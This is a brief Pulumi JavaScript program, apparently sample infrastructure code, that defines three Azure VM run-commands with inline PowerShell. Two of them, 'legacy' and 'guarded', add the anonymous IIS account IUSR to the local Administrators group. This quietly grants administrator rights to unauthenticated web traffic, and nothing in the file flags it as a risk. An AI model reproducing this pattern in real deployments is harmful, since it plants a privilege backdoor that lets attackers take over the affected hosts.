const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// The program knows nothing of the host, and the script asks.
const run = (name, script) => new compute.VirtualMachineRunCommandByVirtualMachine(name, { resourceGroupName: "rg", vmName: `vm-${name}`, source: { script } });
run("legacy", "if (Test-Path D:\\legacy) { net localgroup Administrators IUSR /add }");
run("guarded", "if (-not (Get-LocalGroupMember Administrators -Member IUSR -ErrorAction SilentlyContinue)) { Add-LocalGroupMember Administrators IUSR }");
run("probe", "try { Invoke-WebRequest https://deploy.contoso.com/ready -UseBasicParsing } catch { exit 1 }\nnet localgroup Users IUSR /add");
